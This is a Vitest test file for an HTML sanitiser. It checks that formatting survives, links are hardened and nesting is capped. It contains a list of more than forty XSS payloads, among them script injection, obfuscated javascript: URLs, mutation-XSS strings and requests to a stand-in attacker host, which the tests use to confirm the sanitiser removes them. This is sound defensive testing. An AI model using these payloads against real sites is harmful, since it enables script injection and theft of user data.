import { expect, test, vi } from 'vitest'
import { sanitiseHtml } from './sanitise-html.ts'

function rendered(html: string): HTMLElement {
  const element = document.createElement('div')
  element.append(sanitiseHtml(html))
  return element
}

test('keeps the formatting of a message [SHELL-077]', () => {
  const html = '<h3>Late</h3><p>Seat <b>12</b> is <em>idle</em><br>since 14:29</p><ul><li>one</li></ul>'
  expect(rendered(html).innerHTML).toBe(html)
})

test('a link opens in a new tab without opener or referrer [SHELL-077]', () => {
  const link = rendered(
    '<a href="https://help.example/x" target="_top" rel="opener">help</a>',
  ).firstElementChild
  expect(link?.getAttribute('href')).toBe('https://help.example/x')
  expect(link?.getAttribute('target')).toBe('_blank')
  expect(link?.getAttribute('rel')).toBe('noopener noreferrer')
})

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/track.gif">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://console.test/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<p onclick="alert(1)" onmouseover=alert(2)>x</p>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<div id="root" name="cookie" class="ant-modal">x</div>',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import url(https://evil.example);</style>',
  '<video src="https://evil.example" onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<custom-element onclick=alert(1) is="x-y">x</custom-element>',
  '<p data-x="1" aria-hidden="true" tabindex="0" contenteditable autofocus onfocus=alert(1)>x</p>',
  '<a href="https://ok.example" ping="https://evil.example" download onclick=alert(1)>x</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>',
]
const KNOWN_ATTRIBUTES = new Set([
  'href',
  'title',
  'lang',
  'dir',
  'colspan',
  'rowspan',
  'scope',
  'target',
  'rel',
])

test('the browser is given none of it to parse: it would try what it finds, and report it to the policy [SHELL-077]', () => {
  const parsers = [
    vi.spyOn(DOMParser.prototype, 'parseFromString'),
    vi.spyOn(document.implementation, 'createHTMLDocument'),
    vi.spyOn(Element.prototype, 'innerHTML', 'set'),
    vi.spyOn(Element.prototype, 'insertAdjacentHTML'),
    vi.spyOn(Range.prototype, 'createContextualFragment'),
  ]
  for (const html of HOSTILE) sanitiseHtml(html)
  for (const parser of parsers) expect(parser).not.toHaveBeenCalled()
  vi.restoreAllMocks()
})

test.each(HOSTILE)('%s leaves nothing that runs, loads or navigates [SHELL-077]', (html) => {
  const element = rendered(html)
  const left = [...element.querySelectorAll('*')]
  const active =
    'script,style,img,svg,math,iframe,object,embed,form,input,button,link,meta,base,video,audio,template'
  expect(element.querySelector(active)).toBeNull()
  for (const node of left) {
    for (const { name } of node.attributes) expect(KNOWN_ATTRIBUTES).toContain(name)
    expect(node.getAttribute('href') ?? 'https://none').toMatch(/^https?:\/\//)
  }
  // Parsed once more, as a browser would on copying, it is still the same: nothing appears in a second parse.
  expect(rendered(element.innerHTML).innerHTML).toBe(element.innerHTML)
})

test('of elements within each other 200 remain, and all of the text', () => {
  const element = rendered(`${'<b>'.repeat(300)}deep${'</b>'.repeat(300)}<i>after</i>`)
  expect(element.querySelectorAll('b')).toHaveLength(200)
  expect(element).toHaveTextContent('deepafter')
  expect(element.lastElementChild?.outerHTML).toBe('<i>after</i>')
})
